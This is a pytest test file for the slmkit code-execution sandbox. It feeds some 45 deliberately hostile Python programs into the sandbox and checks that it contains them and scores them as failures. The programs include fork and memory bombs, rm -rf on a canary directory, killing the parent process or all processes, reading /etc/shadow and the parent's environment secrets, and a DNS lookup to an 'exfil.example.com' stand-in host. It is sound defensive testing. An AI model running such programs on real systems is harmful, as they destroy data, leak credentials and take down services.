"""The code-execution sandbox: hostile model-written programs are contained and scored as failures.

All hostile programs run once, together, through ``run_many`` (module-scoped fixture) with small
limits so the file stays fast; the individual tests then check scoring and containment.
"""

from __future__ import annotations

import os
import re
import secrets
import signal
import socket
import tempfile
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from slmkit.errors import SlmkitError
from slmkit.sandbox import runner as sandbox
from slmkit.sandbox import check_program, run_checked, run_many, run_program

LIMITS = dict(memory_mb=256, max_procs=16, max_file_mb=4, max_output_bytes=4096)
TIMEOUT = 2.0
IS_ROOT = os.geteuid() == 0
TIMEOUTISH = {"timeout", "killed"}


def _hostile_programs(canary: Path, outside: Path, in_repo: Path, tmp_escape: str, tcp_port: int,
                      udp_port: int) -> dict[str, tuple[str, set[str]]]:
    """name -> (source, acceptable failure statuses). Each ends in a state that passes only on escape."""
    return {
        "fork_bomb": ("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n", TIMEOUTISH),
        "subprocess_bomb": (
            "import subprocess, sys\nkids = []\nwhile True:\n    try:\n"
            "        kids.append(subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)']))\n"
            "    except Exception:\n        pass\n", TIMEOUTISH),
        "infinite_loop": ("while True:\n    pass\n", TIMEOUTISH),
        "sleep_forever": ("import time\ntime.sleep(10 ** 6)\n", {"timeout"}),
        "memory_hog": ("buf = bytearray()\nwhile True:\n    buf += bytearray(16 << 20)\n", {"failed", "killed"}),
        "huge_list": ("x = [0] * (10 ** 10)\n", {"failed", "killed"}),
        "pickle_huge_object": ("import pickle\nblob = pickle.dumps(bytearray(200 << 20))\n", {"failed", "killed"}),
        "recursion_bomb": ("import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(n):\n    return f(n + 1) + 1\nf(0)\n",
                           {"failed", "killed", "timeout"}),
        "thread_bomb": ("import threading, time\nwhile True:\n"
                        "    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()\n",
                        {"failed", "killed"}),
        "many_open_files": ("files = [open('/dev/null') for _ in range(10 ** 6)]\n", {"failed"}),
        "rmtree_canary": (f"import shutil\nshutil.rmtree({str(canary)!r})\n", {"failed"}),
        "rm_rf_canary": (f"import os, subprocess\nsubprocess.run(['rm', '-rf', {str(canary)!r}], check=True)\n"
                         f"assert os.listdir({str(canary.parent)!r}) == []\n", {"failed"}),
        "write_outside": (f"with open({str(outside)!r}, 'w') as f:\n    f.write('pwned')\n", {"failed"}),
        "write_into_evaluator_package": (f"with open({str(in_repo)!r}, 'w') as f:\n    f.write('pwned')\n", {"failed"}),
        "write_tmp_outside_workdir": (
            f"p = {tmp_escape!r}\nwith open(p, 'w') as f:\n    f.write('pwned')\n"
            "assert open('/proc/1/root' + p).read() == 'pwned'\n", {"failed"}),
        "fill_tmp": ("import os\nfor i in range(64):\n    with open(f'/tmp/fill-{i}', 'wb') as f:\n"
                     "        f.write(b'0' * (1 << 20))\nassert os.path.exists('/proc/1/root/tmp/fill-0')\n",
                     {"failed", "timeout"}),
        "huge_file_write": ("with open('big.bin', 'wb') as f:\n    while True:\n        f.write(b'0' * (1 << 20))\n",
                            {"failed", "killed"}),
        "huge_stdout": ("import sys\nchunk = 'x' * 65536\nwhile True:\n    sys.stdout.write(chunk)\n", TIMEOUTISH),
        "tcp_connect": (f"import socket\ns = socket.create_connection(('127.0.0.1', {tcp_port}), timeout=1)\n"
                        "s.sendall(b'pwned')\n", {"failed"}),
        "raw_socket_reimport": (
            "import sys\nsys.modules.pop('_socket', None)\nsys.modules.pop('socket', None)\nimport _socket\n"
            f"s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)\ns.connect(('127.0.0.1', {tcp_port}))\n"
            "s.send(b'pwned')\n", {"failed"}),
        "ctypes_socket_connect": (
            "import ctypes, socket, struct\nlibc = ctypes.CDLL(None, use_errno=True)\nfd = libc.socket(2, 1, 0)\n"
            "assert fd >= 0, ('socket', ctypes.get_errno())\n"
            f"addr = struct.pack('=H', 2) + struct.pack('!H', {tcp_port}) + socket.inet_aton('127.0.0.1') + bytes(8)\n"
            "assert libc.connect(fd, addr, 16) == 0, ('connect', ctypes.get_errno())\n", {"failed"}),
        "udp_send": (f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'pwned', ('127.0.0.1', {udp_port}))\n",
                     {"failed"}),
        "listen_server": ("import socket\nsocket.create_server(('0.0.0.0', 8080))\n", {"failed"}),
        "dns_exfiltration": ("import socket\nsocket.getaddrinfo('c2VjcmV0.exfil.example.com', 53)\n", {"failed"}),
        "kill_parent": ("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n", {"failed"}),
        "killpg_parent_group": ("import os, signal\nos.killpg(os.getpgid(os.getppid()), signal.SIGKILL)\n", {"failed"}),
        "ctypes_kill_parent": ("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                               "assert libc.kill(os.getppid(), 9) == 0, ctypes.get_errno()\n", {"failed"}),
        "ctypes_kill_everything": ("import ctypes, os\nppid = os.getppid()\nctypes.CDLL(None).kill(-1, 9)\n"
                                   "assert not os.path.exists(f'/proc/{ppid}'), 'evaluator survived'\n", {"failed"}),
        "ptrace_parent": ("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                          "assert libc.ptrace(16, os.getppid(), 0, 0) == 0, ctypes.get_errno()\n", {"failed"}),
        "env_secret": ("import os\nprint(dict(os.environ))\nassert 'SLMKIT_SECRET' in os.environ\n", {"failed"}),
        "parent_environ": ("import os\ndata = open(f'/proc/{os.getppid()}/environ', 'rb').read()\nprint(data)\n"
                           "assert b'SLMKIT_SECRET' in data\n", {"failed"}),
        "read_etc_shadow": ("print(open('/etc/shadow').read())\n", {"failed"}),
        "list_root_home": ("import os\nprint(os.listdir('/root'))\n", {"failed"}),
        "setuid_root": ("import os\nos.setuid(0)\n", {"failed"}),
        "setsid_escape": (
            "import ctypes, os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # not dumpable: /proc shows it as root's\n"
            "        time.sleep(600)\n    os._exit(0)\ntime.sleep(0.2)\nraise SystemExit(3)\n", {"failed"}),
        "os_exit_zero_early": ("import os\nos._exit(0)\n", {"failed"}),
        "sys_exit_zero_early": ("import sys\nsys.exit(0)\n", {"failed"}),
        "sabotage_print": ("import builtins\nbuiltins.print = lambda *a, **k: None\n", {"failed"}),
        "dup2_stdout_to_devnull": ("import os\nos.dup2(os.open(os.devnull, os.O_WRONLY), 1)\n", {"failed"}),
        "close_stdio": ("import os\nos.close(1)\nos.close(2)\n", {"failed"}),
        "ctypes_segfault": ("import ctypes\nctypes.string_at(0)\n", {"killed"}),
        "signal_games": (
            "import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):\n"
            "    signal.signal(s, signal.SIG_IGN)\nsignal.alarm(1)\nwhile True:\n    pass\n", TIMEOUTISH),
        "chmod_tempdir_and_root": ("import os\nos.chmod('.', 0)\nos.chmod('/', 0o777)\n", {"failed"}),
        "inherited_fds": ("import os\nfds = os.listdir('/proc/self/fd')\nassert len(fds) > 4, fds\n", {"failed"}),
    }


def _uid_procs(uid: int) -> list[int]:
    return sandbox._procs(uid=uid)


@pytest.fixture(scope="module", params=["namespaces", "no_namespaces"])
def hostile(request, tmp_path_factory):
    """Whole batch, twice: with namespaces, and without (only uid drop, seccomp, rlimits, sweeps)."""
    base = tmp_path_factory.mktemp("hostile")
    canary = base / "canary"
    canary.mkdir()
    (canary / "keep.txt").write_text("alive")
    outside = base / "outside.txt"
    in_repo = Path(sandbox.__file__).with_name(f"pwned_{secrets.token_hex(4)}.py")
    tmp_escape = os.path.join(tempfile.gettempdir(), f"slmkit-escape-{secrets.token_hex(6)}")
    secret = "s3cr3t-" + secrets.token_hex(8)

    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    programs = _hostile_programs(canary, outside, in_repo, tmp_escape, tcp.getsockname()[1], udp.getsockname()[1])
    sbx_dirs_before = set(Path(tempfile.gettempdir()).glob("slmkit-sbx-*"))
    fds_before = len(os.listdir("/proc/self/fd"))

    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("SLMKIT_SECRET", secret)
        mp.setattr(sandbox, "_USE_NAMESPACES", request.param == "namespaces")
        start = time.monotonic()
        results = run_many([src for src, _ in programs.values()], workers=2, timeout=TIMEOUT, check=True, **LIMITS)
        elapsed = time.monotonic() - start

    fds_after = len(os.listdir("/proc/self/fd"))
    tcp.setblocking(False)
    udp.setblocking(False)
    accepted, received = [], []
    try:
        accepted.append(tcp.accept())
    except BlockingIOError:
        pass
    try:
        received.append(udp.recvfrom(4096))
    except BlockingIOError:
        pass
    tcp.close()
    udp.close()
    print(f"\n{len(programs)} hostile programs ({request.param}) in {elapsed:.1f}s")
    yield SimpleNamespace(
        mode=request.param, programs=programs, results=dict(zip(programs, results)), elapsed=elapsed, canary=canary,
        outside=outside, in_repo=in_repo, tmp_escape=tmp_escape, secret=secret, accepted=accepted,
        received=received, sbx_dirs_before=sbx_dirs_before, fds=(fds_before, fds_after),
    )
    for path in (in_repo, Path(tmp_escape)):  # only present if the sandbox failed
        if path.exists():
            path.unlink()


def test_there_are_at_least_25_hostile_programs(hostile):
    assert len(hostile.programs) >= 25
    assert len(hostile.results) == len(hostile.programs)


@pytest.mark.parametrize("name", sorted(_hostile_programs(Path("/c/x"), Path("/o"), Path("/r"), "/t", 1, 2)))
def test_hostile_program_is_scored_as_failure(hostile, name):
    r = hostile.results[name]
    _, allowed = hostile.programs[name]
    assert not r.passed, (name, r)
    assert r.status in allowed, (name, r.status, r.detail, r.stderr[-2000:])


def test_filesystem_damage_contained(hostile):
    assert (hostile.canary / "keep.txt").read_text() == "alive"
    assert not hostile.outside.exists()
    assert not hostile.in_repo.exists()
    assert not os.path.exists(hostile.tmp_escape)


def test_no_network_traffic_arrived(hostile):
    assert hostile.accepted == [], "a sandboxed program reached the evaluator's TCP listener"
    assert hostile.received == [], "a sandboxed program reached the evaluator's UDP socket"
    for name in ("tcp_connect", "raw_socket_reimport", "ctypes_socket_connect", "udp_send", "dns_exfiltration"):
        assert "PermissionError" in hostile.results[name].stderr or "AssertionError" in hostile.results[name].stderr


def test_evaluator_survived_signals(hostile):
    os.kill(os.getpid(), 0)
    os.killpg(os.getpgrp(), 0)
    assert hostile.results["kill_parent"].status == "failed"


def test_secrets_not_leaked(hostile):
    for name, r in hostile.results.items():
        assert hostile.secret not in r.stdout + r.stderr, name
    assert "root:" not in hostile.results["read_etc_shadow"].stdout
    env_out = hostile.results["env_secret"].stdout
    assert "PATH" in env_out and "SLMKIT" not in env_out


def test_output_capture_is_bounded(hostile):
    for r in hostile.results.values():
        assert len(r.stdout) <= 2 * LIMITS["max_output_bytes"] + 200
        assert len(r.stderr) <= 2 * LIMITS["max_output_bytes"] + 200
    assert "bytes dropped" in hostile.results["huge_stdout"].stdout


@pytest.mark.skipif(not IS_ROOT, reason="processes are tracked by a dedicated uid only when the evaluator is root")
def test_no_sandbox_process_or_file_left(hostile):
    uids = {r.uid for r in hostile.results.values()}
    assert None not in uids
    for uid in uids:
        assert _uid_procs(uid) == [], f"uid {uid} still has processes"
        for d in sandbox._SHARED_WRITABLE:
            if os.path.isdir(d):
                left = [e.path for e in os.scandir(d) if e.stat(follow_symlinks=False).st_uid == uid]
                assert left == [], left


def test_temp_dirs_removed_and_no_fd_leak(hostile):
    assert set(Path(tempfile.gettempdir()).glob("slmkit-sbx-*")) <= hostile.sbx_dirs_before
    assert hostile.fds[0] == hostile.fds[1]


def test_isolation_report(hostile):
    iso = hostile.results["infinite_loop"].isolation
    print("isolation:", iso)
    if IS_ROOT:
        assert iso["uid_drop"] is True
    if hostile.mode == "no_namespaces":
        assert not (iso["net"] or iso["mnt"] or iso["ipc"])
    # the network wall must hold one way or another: namespace or seccomp
    assert iso.get("net") or iso.get("seccomp")


def test_benign_programs_still_pass_after_the_hostile_batch(hostile):
    assert check_program("def add(a, b):\n    return a + b\n\nassert add(2, 3) == 5\n", timeout=5)
    assert not check_program("def add(a, b):\n    return a - b\n\nassert add(2, 3) == 5\n", timeout=5)
    r = run_program("print('hello')", timeout=5)
    assert r.passed and r.status == "passed" and r.stdout == "hello\n" and r.returncode == 0


def test_ordinary_stdlib_features_work():
    """Walls must not break what benchmark solutions legitimately use."""
    src = (
        "import os, sys, tempfile, threading, subprocess, socket, collections, math, re, json\n"
        "with open('scratch.txt', 'w') as f:\n    f.write('ok')\n"
        "with tempfile.TemporaryDirectory() as d:\n    open(os.path.join(d, 'x'), 'w').write('x')\n"
        "t = threading.Thread(target=lambda: None)\nt.start()\nt.join()\n"
        "out = subprocess.run([sys.executable, '-c', 'print(6 * 7)'], capture_output=True, text=True).stdout\n"
        "assert out.strip() == '42', out\n"
        "a, b = socket.socketpair()\na.sendall(b'hi')\nassert b.recv(2) == b'hi'\n"
        "class Point(collections.namedtuple('P', 'x y')):\n    pass\n"
        "import pickle\nassert pickle.loads(pickle.dumps(Point(1, 2))) == Point(1, 2)\n"
    )
    r = run_checked(src, timeout=10, **LIMITS)
    assert r.passed, (r.status, r.detail, r.stderr)


def test_total_memory_watchdog_catches_fork_and_allocate():
    """RLIMIT_AS is per process; the evaluator also caps the sum over the run's processes."""
    src = ("import os, time\nfor _ in range(4):\n    if os.fork() == 0:\n        x = b'x' * (120 << 20)\n"
           "        time.sleep(30)\ntime.sleep(30)\n")
    r = run_program(src, timeout=5, memory_mb=256, max_procs=16)
    assert r.status == "killed" and "memory" in r.detail and r.wall_s < 4, (r.status, r.detail, r.stderr)


@pytest.mark.skipif(not IS_ROOT, reason="leftovers are attributed by the dedicated uid only when root")
@pytest.mark.parametrize("namespaces", [True, False])
def test_sysv_shared_memory_does_not_outlive_the_run(monkeypatch, namespaces):
    """SysV segments survive their creator; a private IPC namespace or the uid sweep must drop them."""
    monkeypatch.setattr(sandbox, "_USE_NAMESPACES", namespaces)
    src = ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
           "assert libc.shmget(0, 8 << 20, 0o1000 | 0o600) >= 0, ctypes.get_errno()\n")
    r = run_program(src, timeout=5, **LIMITS)
    assert r.passed, r.stderr
    with open("/proc/sysvipc/shm") as f:
        rows = [line.split() for line in f.read().splitlines()[1:]]
    assert not [row for row in rows if int(row[7]) == r.uid]


def test_network_namespace_has_no_interfaces_up():
    r = run_program("print(open('/proc/self/net/dev').read())", timeout=5)
    assert r.passed, r.stderr
    if not r.isolation.get("net"):
        pytest.skip("the OS refused a network namespace here (seccomp still blocks socket())")
    names = [line.split(":")[0].strip() for line in r.stdout.splitlines()[2:] if ":" in line]
    assert names == ["lo"]


def test_tracebacks_show_program_lines():
    r = run_program("def f():\n    raise ValueError('boom')\nf()\n", timeout=5)
    assert r.status == "failed" and r.returncode == 1
    assert "ValueError: boom" in r.stderr and "raise ValueError('boom')" in r.stderr


def test_run_many_keeps_order_and_handles_empty():
    assert run_many([]) == []
    rs = run_many(["print(1)", "raise SystemExit(4)", "print(3)"], workers=2, timeout=5)
    assert [r.status for r in rs] == ["passed", "failed", "passed"]
    assert rs[1].returncode == 4 and rs[2].stdout == "3\n"


def test_cpu_limit_kills_busy_loop():
    r = run_program("while True:\n    pass\n", timeout=5, cpu_seconds=1)
    assert r.status == "killed" and "CPU" in r.detail and r.wall_s < 4


def test_bad_arguments_are_one_line_errors():
    with pytest.raises(SlmkitError, match="timeout"):
        run_program("pass", timeout=0)
    with pytest.raises(SlmkitError, match="memory_mb"):
        run_program("pass", memory_mb=8)
    with pytest.raises(SlmkitError, match="workers"):
        run_many(["pass"], workers=0)


def test_capture_keeps_head_and_tail():
    cap = sandbox._Capture(200)
    for i in range(1000):
        cap.add(f"{i:05d}\n".encode())
    text = cap.text()
    assert text.startswith("00000\n") and text.endswith("00999\n")
    assert "bytes dropped" in text and len(text) < 300
    assert re.search(r"\[\.\.\. (\d+) bytes dropped", text).group(1) == str(cap.total - 200)


def test_signal_enum_names_are_reported():
    r = run_program("import os, signal\nos.kill(os.getpid(), signal.SIGTERM)\n", timeout=5)
    assert r.status == "killed" and "SIGTERM" in r.detail and r.returncode == -signal.SIGTERM
